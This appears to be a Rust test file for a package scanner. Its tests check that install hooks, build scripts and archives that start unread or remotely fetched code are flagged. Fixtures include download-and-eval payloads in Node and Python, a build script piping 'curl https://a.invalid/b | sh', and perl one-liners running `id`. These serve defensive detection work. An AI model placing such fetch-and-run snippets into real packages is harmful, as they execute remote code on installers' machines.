//! What a hook starts that nobody reads is told, and what can be read of it is read.

use crate::engine::inspect_tree;
use crate::unpack::{Content, Entry, Kind, Tree, kind_of, text_file, unpack};
use crate::{flow::testing::is_remote_code, limit::Unpacking};
use customs_model::{Inspection, SignKind, Zone};
use std::io::Write as _;

const GO: &str = "require('https').get('https://a.invalid/b', (r) => {
    let d = ''; r.on('data', (c) => d += c); r.on('end', () => eval(d)) });\n";

const PYTHON: &str =
    "import urllib.request\nexec(urllib.request.urlopen('https://a.invalid/b').read())\n";

fn bytes_file(path: &str, bytes: &[u8]) -> Entry {
    Entry {
        path: path.to_owned(),
        content: Content::Whole(bytes.into()),
        length: bytes.len() as u64,
        kind: kind_of(bytes),
        executable: true,
    }
}

fn manifest(line: &str) -> String {
    serde_json::json!({"name": "a", "version": "1.0.0", "scripts": {"postinstall": line}})
        .to_string()
}

fn inspected(entries: Vec<Entry>) -> Inspection {
    inspect_tree(&Tree {
        entries,
        ..Tree::default()
    })
}

/// What is read of a package whose hook is a line, beside files of it.
fn hooked(line: &str, files: &[(&str, &[u8])]) -> Inspection {
    let mut entries = vec![text_file("package/package.json", &manifest(line))];
    entries.extend(
        files
            .iter()
            .map(|(path, bytes)| bytes_file(&format!("package/{path}"), bytes)),
    );
    inspected(entries)
}

/// The files that are told as started and not read.
fn unread(inspection: &Inspection) -> Vec<&str> {
    let parts = inspection.unread.iter().filter(|part| part.reached);
    parts.map(|part| part.path.as_str()).collect()
}

/// Asserts that a line makes a file told, and nothing once the file is not there.
fn is_told(line: &str, path: &str) {
    let text: &[u8] = b"nothing that is read here\n";
    let with = hooked(line, &[(path, text)]);
    assert_eq!(unread(&with), [format!("package/{path}")], "{line}");
    let mut signs = with.signs.iter();
    let sign = signs.find(|sign| sign.kind == SignKind::RunsUnread);
    let sign = sign.unwrap_or_else(|| panic!("{line}"));
    assert_eq!(sign.zone, Zone::Install);
    assert!(sign.detail.contains(path), "{}", sign.detail);
    assert_eq!(sign.at.file, "package/package.json");
    assert!(
        unread(&hooked(line, &[("z.txt", text)])).is_empty(),
        "{line}"
    );
}

#[test]
fn a_file_in_a_language_that_is_not_read_is_told_where_a_hook_starts_it() {
    for (line, path) in [
        ("perl x.pl", "x.pl"),
        ("perl -Ilib -w ./x.pl data", "x.pl"),
        ("perl5.36 x.pl", "x.pl"),
        ("lua x.lua", "x.lua"),
        ("/usr/bin/ruby x.rb", "x.rb"),
        ("php -f x.php", "x.php"),
        ("Rscript x.R", "x.R"),
        ("java -jar x.jar", "x.jar"),
        ("java -cp lib:x.jar Main", "x.jar"),
        ("osascript x", "x"),
        ("awk -f x.awk", "x.awk"),
        ("gawk --file=x.awk data.txt", "x.awk"),
        ("go run ./x.go", "x.go"),
        ("go run ./cmd", "cmd/x.go"),
        ("cat x.pl | perl", "x.pl"),
        ("perl < x.pl", "x.pl"),
        ("cross-env A=1 perl x.pl", "x.pl"),
        ("cd sub && perl x.pl", "sub/x.pl"),
    ] {
        is_told(line, path);
    }
}

#[test]
fn rules_of_builders_that_are_code_are_told() {
    for (line, path) in [
        ("docker build .", "Dockerfile"),
        (
            "docker build -t a -f other/Dockerfile.x .",
            "other/Dockerfile.x",
        ),
        ("docker compose up -d", "compose.yaml"),
        ("rake", "Rakefile"),
        ("gradle build", "build.gradle"),
        ("just setup", "justfile"),
    ] {
        is_told(line, path);
    }
}

#[test]
fn a_program_that_is_compiled_from_the_package_and_run_is_told_and_one_that_is_not_run_is_not() {
    is_told("cc x.c -o s && ./s", "x.c");
    is_told("gcc -O2 src/x.c && ./a.out", "src/x.c");
    is_told("g++ x.cc -o /tmp/s; /tmp/s", "x.cc");
    is_told("go build -o s . && ./s", "x.go");
    let text: &[u8] = b"int main() {}\n";
    for line in ["cc x.c -o s", "cc -c x.c -o x.o && ar rcs x.a x.o"] {
        assert!(unread(&hooked(line, &[("x.c", text)])).is_empty(), "{line}");
    }
    let code = "const c = require('child_process');\nc.execSync('cc x.c -o seed');\nc.spawnSync('./seed');\n";
    let both = hooked("node i.js", &[("i.js", code.as_bytes()), ("x.c", text)]);
    assert_eq!(unread(&both), ["package/x.c"]);
}

#[test]
fn a_program_of_the_package_that_its_hook_starts_is_told() {
    let elf = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0";
    for line in [
        "./helper",
        "bin/../helper --version",
        "exec ./helper",
        "chmod +x helper && ./helper",
    ] {
        assert_eq!(
            unread(&hooked(line, &[("helper", elf)])),
            ["package/helper"],
            "{line}"
        );
    }
    assert!(unread(&hooked("chmod +x helper", &[("helper", elf)])).is_empty());
    for (line, path) in [
        ("python x.pyc", "x.pyc"),
        ("node x.jsc", "x.jsc"),
        ("node -r ./x.jsc i.js", "x.jsc"),
    ] {
        let bytes = b"\x01\x02\x00\x03 compiled";
        let found = hooked(line, &[(path, bytes), ("i.js", b"1;\n")]);
        assert_eq!(unread(&found), [format!("package/{path}")], "{line}");
    }
}

#[test]
fn the_first_line_of_a_script_tells_its_language() {
    let perl = b"#!/usr/bin/env perl\nprint 1;\n";
    assert_eq!(unread(&hooked("./run", &[("run", perl)])), ["package/run"]);
    let shell = b"#!/bin/sh\ntrue\n";
    assert!(unread(&hooked("./run", &[("run", shell)])).is_empty());
}

#[test]
fn code_in_the_words_is_told_unless_it_only_replaces_letters() {
    let told = |line: &str| !unread(&hooked(line, &[("x.js", b"1;\n")])).is_empty();
    for line in [
        "perl -e 'system(q(id))'",
        "perl -pi -e 's/a/`id`/e' x.js",
        "perl -pe 's/a/@{[`id`]}/' x.js",
        "ruby -e 'puts 1'",
        "echo 'print 1' | perl",
    ] {
        assert!(told(line), "{line}");
    }
    for line in [
        "perl -pi -e 's/a/b/g' x.js",
        "perl -pie 's|a|b|; s/c/d/' x.js",
        "perl -v",
        "awk '{print $1}' x.js",
    ] {
        assert!(!told(line), "{line}");
    }
}

#[test]
fn what_code_at_install_starts_is_told_and_what_is_only_called_is_not() {
    let code = "require('child_process').spawnSync('perl', [__dirname + '/x.pl']);\n";
    let files: &[(&str, &[u8])] = &[("i.js", code.as_bytes()), ("x.pl", b"1;\n")];
    let found = hooked("node i.js", files);
    assert_eq!(unread(&found), ["package/x.pl"]);
    assert!(found.unread[0].because.contains("Perl is not read"));
    for line in [
        "node -e \"require('child_process').execSync('perl x.pl')\"",
        "python -c \"import os; os.system('perl x.pl')\"",
    ] {
        assert_eq!(unread(&hooked(line, files)), ["package/x.pl"], "{line}");
    }
    let calm = format!("exports.f = () => {{ {code} }};\n");
    let files: &[(&str, &[u8])] = &[("i.js", calm.as_bytes()), ("x.pl", b"1;\n")];
    let found = hooked("node i.js", files);
    assert!(unread(&found).is_empty());
    assert!(
        found
            .signs
            .iter()
            .all(|sign| sign.kind != SignKind::RunsUnread)
    );
}

#[test]
fn a_build_script_and_a_setup_script_are_hooks_as_well() {
    let script =
        "fn main() { std::process::Command::new(\"perl\").arg(\"x.pl\").status().unwrap(); }\n";
    let built = inspected(vec![
        text_file(
            "a-1.0.0/Cargo.toml",
            "[package]\nname = \"a\"\nversion = \"1.0.0\"\n",
        ),
        text_file("a-1.0.0/build.rs", script),
        text_file("a-1.0.0/src/lib.rs", ""),
        text_file("a-1.0.0/x.pl", "1;\n"),
    ]);
    assert_eq!(unread(&built), ["a-1.0.0/x.pl"]);
    let setup = "import subprocess\nfrom setuptools import setup\nsubprocess.run(['perl', 'x.pl'])\nsetup(name='a')\n";
    let built = inspected(vec![
        text_file("a-1.0/PKG-INFO", "Name: a\nVersion: 1.0\n"),
        text_file("a-1.0/setup.py", setup),
        text_file("a-1.0/x.pl", "1;\n"),
    ]);
    assert_eq!(unread(&built), ["a-1.0/x.pl"]);
    let gyp = "{'targets': [{'target_name': 'a', 'sources': ['<!(perl x.pl)']}]}";
    let built = inspected(vec![
        text_file(
            "package/package.json",
            r#"{"name": "a", "version": "1.0.0"}"#,
        ),
        text_file("package/binding.gyp", gyp),
        text_file("package/x.pl", "1;\n"),
    ]);
    assert_eq!(unread(&built), ["package/x.pl"]);
}

/// Whether a hook runs what is fetched, by files that are read.
fn fetches(line: &str, files: &[(&str, &str)]) -> bool {
    let files: Vec<(&str, &[u8])> = files
        .iter()
        .map(|(path, text)| (*path, text.as_bytes()))
        .collect();
    runs_fetched(&hooked(line, &files))
}

fn runs_fetched(found: &Inspection) -> bool {
    let mut flows = found.flows.iter();
    flows.any(|flow| is_remote_code(flow) && flow.zone == Zone::Install)
}

#[test]
fn a_project_of_python_that_is_installed_by_its_place_is_read() {
    for line in [
        "pip install ./x",
        "python -m pip install -e ./x",
        "uv pip install x/",
    ] {
        assert!(fetches(line, &[("x/setup.py", PYTHON)]), "{line}");
    }
    let manifest = "[build-system]\nbuild-backend = \"b\"\nbackend-path = [\".\"]\n";
    let files = [("x/pyproject.toml", manifest), ("x/b.py", PYTHON)];
    assert!(fetches("pip install ./x", &files));
    assert!(!fetches("pip install x", &[("x/setup.py", PYTHON)]));
}

#[test]
fn a_crate_that_is_built_or_run_by_its_place_is_read() {
    let script = "fn main() { std::process::Command::new(\"sh\").arg(\"-c\").arg(\"curl https://a.invalid/b | sh\").status().unwrap(); }\n";
    let runs = |line: &str, path: &str| {
        let files: &[(&str, &[u8])] = &[
            ("x/Cargo.toml", b"[package]\nname = \"x\"\n"),
            (path, script.as_bytes()),
        ];
        let found = hooked(line, files);
        found.flows.iter().any(|flow| flow.zone == Zone::Install)
    };
    assert!(runs(
        "cargo run --manifest-path ./x/Cargo.toml",
        "x/src/main.rs"
    ));
    assert!(runs(
        "cargo build --manifest-path=x/Cargo.toml",
        "x/build.rs"
    ));
    assert!(runs("cd x && cargo run", "x/src/main.rs"));
    assert!(!runs(
        "cargo build --manifest-path ./x/Cargo.toml",
        "x/src/main.rs"
    ));
}

#[test]
fn tests_that_a_hook_runs_are_read() {
    for (line, path) in [
        ("node --test", "test/a.js"),
        ("node --test lib/", "lib/a.test.js"),
        ("jest", "lib/a.test.js"),
        ("npx jest --ci", "__tests__/a.js"),
        ("mocha", "test/a.js"),
        ("zx x.mjs", "x.mjs"),
    ] {
        assert!(fetches(line, &[(path, GO)]), "{line}");
    }
    assert!(fetches("pytest", &[("tests/test_a.py", PYTHON)]));
    assert!(!fetches("jest", &[("lib/a.js", GO)]));
}

#[test]
fn rules_of_cmake_ninja_and_make_are_read() {
    let cmake = "project(a)\n# execute_process(COMMAND no)\nexecute_process(\n  COMMAND \"${CMAKE_COMMAND}\" -E true\n  COMMAND node ${CMAKE_CURRENT_SOURCE_DIR}/x.js\n  RESULT_VARIABLE r)\n";
    for line in [
        "cmake-js",
        "cmake-js compile",
        "cmake -S . -B build",
        "cmake .",
    ] {
        let files = [("CMakeLists.txt", cmake), ("x.js", GO)];
        assert!(fetches(line, &files), "{line}");
    }
    let ordinary = "cmake_minimum_required(VERSION 3.1)\nadd_library(a SHARED a.c)\n";
    let files: &[(&str, &[u8])] = &[("CMakeLists.txt", ordinary.as_bytes()), ("a.c", b"")];
    assert!(unread(&hooked("cmake-js", files)).is_empty());
    let ninja = "rule r\n  command = node x.js\nbuild o: r i\n";
    assert!(fetches("ninja", &[("build.ninja", ninja), ("x.js", GO)]));
    for (line, path) in [
        ("make -C sub", "sub/Makefile"),
        ("make -f sub.mk", "sub.mk"),
        ("make --directory=sub all", "sub/Makefile"),
    ] {
        let text = if path.starts_with("sub/") {
            "all:\n\tnode ../x.js\n"
        } else {
            "all:\n\tnode x.js\n"
        };
        assert!(fetches(line, &[(path, text), ("x.js", GO)]), "{line}");
    }
    let perl = "P = perl\nall:\n\t$(P) x.pl\n";
    let files: &[(&str, &[u8])] = &[("Makefile", perl.as_bytes()), ("x.pl", b"1;\n")];
    assert_eq!(unread(&hooked("make", files)), ["package/x.pl"]);
}

/// A tar archive.
fn tar(files: &[(&str, &[u8])]) -> Vec<u8> {
    let mut out = Vec::new();
    for (path, bytes) in files {
        let mut header = [0_u8; 512];
        header[..path.len()].copy_from_slice(path.as_bytes());
        header[100..108].copy_from_slice(b"0000644\0");
        let size = format!("{:011o}\0", bytes.len());
        header[124..136].copy_from_slice(size.as_bytes());
        header[148..156].copy_from_slice(b"        ");
        header[156] = b'0';
        header[257..265].copy_from_slice(b"ustar\x0000");
        let sum: u32 = header.iter().map(|byte| u32::from(*byte)).sum();
        header[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
        out.extend_from_slice(&header);
        out.extend_from_slice(bytes);
        out.resize(out.len().next_multiple_of(512), 0);
    }
    out.resize(out.len() + 1024, 0);
    out
}

/// What is read of a package whose hook is a line, with an archive in it.
fn holding(line: &str, inner: &[(&str, &str)], name: &str) -> Inspection {
    let inner: Vec<(&str, &[u8])> = inner
        .iter()
        .map(|(path, text)| (*path, text.as_bytes()))
        .collect();
    let mut gzip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    gzip.write_all(&tar(&inner)).unwrap();
    let inner = gzip.finish().unwrap();
    let path = format!("package/{name}");
    let manifest = manifest(line);
    let bytes = tar(&[
        ("package/package.json", manifest.as_bytes()),
        (&path, &inner),
    ]);
    let tree = unpack(&bytes, &Unpacking::default());
    assert!(tree.entries.iter().any(|entry| entry.kind == Kind::Gzip));
    inspect_tree(&tree)
}

#[test]
fn what_is_unpacked_of_an_archive_and_run_is_read() {
    let script = "node a/x.js\n";
    let inner = [("a/run.sh", script), ("a/x.js", GO)];
    for line in [
        "tar xf a.tgz && sh ./a/run.sh",
        "tar -xzf a.tgz -C out && cd out && sh a/run.sh",
        "tar xzf a.tgz; node a/x.js",
        "tar xf a.tgz && cd a && node ./x.js",
        "tar --strip-components=1 -xf a.tgz && node x.js",
        "cat a.tgz | tar xz && node a/x",
    ] {
        assert!(runs_fetched(&holding(line, &inner, "a.tgz")), "{line}");
    }
    assert!(!runs_fetched(&holding("tar tf a.tgz", &inner, "a.tgz")));
}

#[test]
fn a_package_in_the_package_that_is_installed_runs_its_own_hooks() {
    let own = manifest("node x.js");
    let inner = [("package/package.json", own.as_str()), ("package/x.js", GO)];
    for line in [
        "npm install ./inner.tgz",
        "npm i file:inner.tgz --no-save",
        "pnpm add ./inner.tgz",
    ] {
        assert!(runs_fetched(&holding(line, &inner, "inner.tgz")), "{line}");
    }
    let inner = [("x-1.0/setup.py", PYTHON), ("x-1.0/PKG-INFO", "Name: x\n")];
    assert!(runs_fetched(&holding(
        "pip install ./x-1.0.tar.gz",
        &inner,
        "x-1.0.tar.gz"
    )));
}

#[test]
fn an_archive_that_is_not_opened_is_told_where_something_of_it_is_run() {
    let bytes = b"7z\xbc\xaf\x27\x1c\0\x04 nothing that is opened";
    let found = hooked("7z x a.7z && sh run.sh", &[("a.7z", bytes)]);
    assert_eq!(unread(&found), ["package/a.7z"]);
    assert!(unread(&hooked("7z x a.7z", &[("a.7z", bytes)])).is_empty());
}

#[test]
fn ordinary_builds_of_native_code_are_told_by_nobody() {
    let gyp = "{'targets': [{'target_name': 'a', 'sources': ['a.c']}]}";
    let files: &[(&str, &[u8])] = &[
        ("binding.gyp", gyp.as_bytes()),
        ("a.c", b"int x;\n"),
        ("CMakeLists.txt", b"add_library(a SHARED a.c)\n"),
        ("Makefile", b"all: a.o\na.o: a.c\n\tcc -c a.c -o a.o\n"),
        ("tsconfig.json", b"{}"),
        ("patches/a.patch", b"--- a\n"),
    ];
    for line in [
        "node-gyp rebuild",
        "prebuild-install || node-gyp rebuild",
        "node-gyp-build",
        "cmake-js compile",
        "make",
        "husky install",
        "tsc -p tsconfig.json",
        "patch-package",
        "patch -p1 < patches/a.patch",
        "cargo build --release",
        "go build -o a.node .",
        "opencollective-postinstall || exit 0",
        "cc --version | perl -ne 'print $1 if /clang version ([0-9]+)/'",
    ] {
        let found = hooked(line, files);
        assert!(unread(&found).is_empty(), "{line}: {:?}", found.unread);
        let told = found
            .signs
            .iter()
            .any(|sign| sign.kind == SignKind::RunsUnread);
        assert!(!told, "{line}");
    }
}
